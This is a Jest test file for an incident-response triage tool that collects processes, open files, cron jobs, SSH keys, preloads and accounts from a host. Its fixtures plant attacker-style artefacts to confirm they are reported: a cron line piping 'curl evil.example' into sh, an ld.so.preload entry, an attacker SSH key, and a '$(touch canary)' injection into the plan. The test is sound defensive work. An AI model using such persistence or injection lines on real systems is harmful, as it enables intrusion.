import { type ChildProcess, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { closeSync, mkdirSync, openSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import {
  parseTriage,
  parseTriageOutcome,
  renderTriagePlan,
  type TriageOutcome,
  type TriagePlan,
  type TriageSection,
} from '../../documents/triage';
import { triageDocument } from '../../documents/triage-document';
import { failed, host, onPut, useCaptureHost, vault } from './capture-fixture';
import { changeSettings, pasteParameters, type Settings, SHELLS, uid } from './capture-harness';
import { SIGNATURE } from './vault-server';

useCaptureHost();

const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');
let settings: Settings;
let started: ChildProcess[];
beforeEach(() => {
  started = [];
  settings = {
    SHARED_TMPFS: host.sharedTmpfs,
    URL_SCHEME: 'http',
    REQUIRED_UID: String(uid),
    ATTEMPTS: '3',
    FIRST_RETRY_DELAY: '0',
    ROOT: host.folder,
    PROC: join(host.folder, 'proc'),
  };
  mkdirSync(join(host.folder, 'proc'));
  for (const name of ['uptime', 'stat', 'version', 'cmdline', 'loadavg', 'modules', 'sys']) show(name);
  show(1);
  show(process.pid);
});
afterEach(() => {
  for (const child of started) child.kill('SIGKILL');
});

/** The host is this machine's own /proc, less the processes that are none of the test's. */
function show(name: string | number): void {
  symlinkSync(`/proc/${name}`, join(host.folder, 'proc', String(name)));
}

function plan(changes: Partial<TriagePlan> = {}): string {
  const outputUrl = vault.url('/output').replace('http:', 'https:');
  const text = renderTriagePlan({ timeLimitSeconds: 120, limit: 8 * 1024 * 1024, outputUrl, ...changes });
  return text.replace('https://127.', 'http://127.');
}

async function triage(
  text = plan(),
  shell = 'sh',
  parameters: Record<string, string> = {},
): Promise<TriageOutcome> {
  vault.objects.set('/plan', Buffer.from(text));
  const [{ inputs }] = triageDocument().mainSteps;
  const script = pasteParameters(inputs.runCommand.join('\n'), {
    PlanUrl: vault.url('/plan'),
    PlanSha256: sha256(text),
    ...parameters,
  });
  host.shell = shell;
  const { stdout, stderr, exitCode } = await host.capture(
    changeSettings(script, { CLEAN_SHELL: shell, ...settings }),
  );
  expect(stderr).toBe('');
  const outcome = parseTriageOutcome(stdout);
  expect(exitCode).toBe(outcome.status === 'ok' ? 0 : 1);
  expect(readFileSync('/proc/self/mountinfo', 'utf8')).not.toContain('cordon-triage');
  expect(readdirSync(host.sharedTmpfs)).toEqual([]);
  return outcome;
}

const output = (): Buffer => vault.objects.get('/output') ?? Buffer.alloc(0);
function section(name: string): TriageSection {
  const found = parseTriage(output()).find((each) => each.name === name);
  if (!found) throw new Error(`no section ${name}`);
  return found;
}
const lines = (name: string): string[] => section(name).bytes.toString().split('\n');
const VOLATILITY = [
  'clock',
  'processes',
  'sockets',
  'open-files',
  'executable-memory',
  'modules',
  'mounts',
  'logins',
  'network',
  'temporary-files',
  'preloads',
  'cron',
  'units',
  'containers',
  'accounts',
  'ssh-keys',
  'kernel-log',
  'logs',
];

/** A process with a deleted file open, a name with blanks and brackets, and arguments that play a section of their own. */
async function suspicious(): Promise<number> {
  const file = openSync(host.write('loot', 'secret'), 'r');
  const copy = host.write('x) R 1 (y', readFileSync('/bin/sleep'), 0o755);
  const child = spawn(copy, ['600', '\nsection processes 0 4 whole\nfake\nend 1\n'], {
    stdio: ['ignore', file, 'ignore'],
  });
  started.push(child);
  await new Promise((resolve) => child.once('spawn', resolve));
  rmSync(join(host.folder, 'loot'));
  closeSync(file);
  show(child.pid ?? 0);
  return child.pid ?? 0;
}

describe.each(SHELLS)('under %s', (shell) => {
  test('stores sections in the order of volatility, and says what was stored', async () => {
    const pid = await suspicious();
    const outcome = await triage(plan(), shell);
    expect(outcome).toEqual({
      status: 'ok',
      bytes: output().length,
      sha256: sha256(output()),
      sections: VOLATILITY.length,
      cut: 0,
      hostClock: {
        epochSeconds: expect.any(Number) as number,
        serverDate: expect.stringMatching(/GMT$/) as string,
      },
    });
    expect(parseTriage(output()).map(({ name }) => name)).toEqual(VOLATILITY);
    const [process, ...more] = lines('processes').filter((line) => line.startsWith(`${pid}\t`));
    expect(more).toEqual([]);
    expect(process?.split('\t').map((each) => each.trim())).toEqual([
      String(pid),
      String(global.process.pid),
      String(uid),
      expect.stringMatching(/^[0-9]+$/) as string,
      'S',
      expect.stringMatching(/^[0-9]+$/) as string,
      sha256(readFileSync('/bin/sleep')),
      join(host.folder, 'x) R 1 (y'),
      'x) R 1 (y',
      `${join(host.folder, 'x) R 1 (y')} 600  section processes 0 4 whole fake end 1`,
    ]);
    expect(lines('open-files')).toContain(`${pid}\t1\tdeleted\t${host.folder}/loot (deleted)`);
    expect(lines('sockets').join()).toMatch(/tcp of net:\[\d+\], seen by process \d+,.*local_address/);
  });
});

test('every line of the processes has as many fields as the first', async () => {
  await suspicious();
  await triage();
  const counts = lines('processes')
    .slice(0, -1)
    .map((line) => line.split('\t').length);
  expect(new Set(counts)).toEqual(new Set([10]));
});

describe('of the files of the host', () => {
  const KEY = 'AAAAC3NzaC1lZDI1NTE5AAAAIKCordonCordonCordonCordonCordonCordonCord';
  const FINGERPRINT = createHash('sha256')
    .update(Buffer.from(KEY, 'base64'))
    .digest('base64')
    .replace(/=+$/, '');

  beforeEach(async () => {
    for (const folder of ['etc/cron.d', 'etc/ssh', 'root/.ssh', 'etc/systemd/system', 'var/log'])
      mkdirSync(join(host.folder, folder), { recursive: true });
    host.write('etc/passwd', 'root:x:0:0:root:/root:/bin/sh\nsshd:x:1:1::/nowhere:/bin/false\n');
    host.write('etc/shadow', 'root:$6$salt$hash:19000:0:99999:7:::\nsshd:!*:19000::::::\neve::19001::::::\n');
    host.write(
      'root/.ssh/authorized_keys',
      `# none\nfrom="10.0.0.0/8",command="x y" ssh-ed25519 ${KEY} eve@evil\tx\nbad\n`,
    );
    host.write('etc/cron.d/x', '* * * * * root curl evil.example | sh\nsection cron 0 1 whole\n');
    host.write('etc/ld.so.preload', '/tmp/x.so\n');
    await triage();
  });

  test('the keys are told by their fingerprints', () => {
    expect(lines('ssh-keys')[1]).toBe(
      `${host.folder}/root/.ssh/authorized_keys\tssh-ed25519\tSHA256:${FINGERPRINT}\teve@evil x`,
    );
  });

  test('what runs on a schedule and what is preloaded is shown', () => {
    expect(lines('cron')).toContain('* * * * * root curl evil.example | sh');
    expect(lines('preloads')).toContain('/tmp/x.so');
  });

  test('no hash of a password is taken along', () => {
    expect(output().includes('$6$salt')).toBe(false);
    expect(lines('accounts')).toEqual(
      expect.arrayContaining([
        'root:password:19000:0:99999:7:::',
        'sshd:locked:19000::::::',
        'eve:empty:19001::::::',
      ]),
    );
  });
});

test('stays within the limit of the plan, and says which sections were cut', async () => {
  mkdirSync(join(host.folder, 'etc'));
  host.write('etc/crontab', `${'x'.repeat(60_000)}\n`);
  const outcome = await triage(plan({ limit: 65_536 }));
  expect(output().length).toBeLessThanOrEqual(65_536);
  expect(outcome).toMatchObject({ status: 'ok' });
  const cut = parseTriage(output()).filter(({ isWhole }) => !isWhole);
  expect(outcome).toMatchObject({ cut: cut.length });
  expect(cut.map(({ name }) => name)).toContain('cron');
});

test('hashes no more than it may', async () => {
  settings = { ...settings, HASHED_FILES: '1' };
  await triage();
  const hashes = lines('processes')
    .slice(1)
    .map((line) => line.split('\t')[6] ?? '');
  expect(new Set(hashes.filter((hash) => /^[0-9a-f]{64}$/.test(hash))).size).toBe(1);
  expect(hashes).toContain('too-much');
});

test('stores what it has when a section takes too long', async () => {
  mkdirSync(join(host.folder, 'bin'));
  const slow = '#!/bin/sh\ncase "$*" in */proc/modules*) sleep 3;; esac\nexec /bin/cat "$@"\n';
  host.write('bin/cat', slow, 0o755);
  settings = {
    ...settings,
    SECTION_SECONDS: '1',
    SAFE_PATH: `${host.folder}/bin:/usr/sbin:/usr/bin:/sbin:/bin`,
  };
  expect(await triage()).toMatchObject({ status: 'ok', sections: VOLATILITY.length });
  expect(section('modules')).toMatchObject({ status: 124, isWhole: false });
});

test('no URL is ever in its own report', async () => {
  expect(await triage()).toMatchObject({ status: 'ok' });
  expect(output().includes(SIGNATURE)).toBe(false);
});

describe('fails when', () => {
  test.each<[string, (text: string) => string]>([
    ['it is of another version', (text) => text.replace('plan 1', 'plan 2')],
    ['its limit is beyond the bounds', (text) => text.replace('8388608', '8388608000')],
    ['its limit is too small', (text) => text.replace('8388608', '100')],
    ['a line is missing', (text) => text.replace(/limit 8.*\n/, '')],
    ['it goes on', (text) => `${text}output x\n`],
    ['it goes on without an end', (text) => `${text}x`],
    ['it holds a command', (text) => text.replace('/output', '/$(touch canary)')],
    ['it is for a capture', (text) => text.replace('triage', 'capture')],
  ])('the plan: %s', async (_what, spoil) => {
    expect(await triage(spoil(plan()))).toMatchObject(failed('plan', 'malformed'));
    expect(vault.objects.has('/output')).toBe(false);
  });

  test('the plan has another hash', async () => {
    expect(await triage(plan(), 'sh', { PlanSha256: 'a'.repeat(64) })).toMatchObject(
      failed('plan', 'hash-mismatch'),
    );
  });

  test('a parameter is not what it must be', async () => {
    expect(await triage(plan(), 'sh', { PlanSha256: 'A' })).toMatchObject(failed('plan', 'invalid-input'));
  });

  test('the output is refused', async () => {
    vault.onRequest = onPut('/output', () => ({
      status: 403,
      code: 'AccessDenied',
      message: 'Request has expired',
    }));
    expect(await triage()).toMatchObject(failed('put', 'url-expired'));
  });

  test('there is no workspace', async () => {
    settings = { ...settings, MOUNT_POINTS: '/nowhere', SHARED_TMPFS: '/nowhere' };
    expect(await triage()).toMatchObject(failed('collect', 'no-workspace'));
  });
});
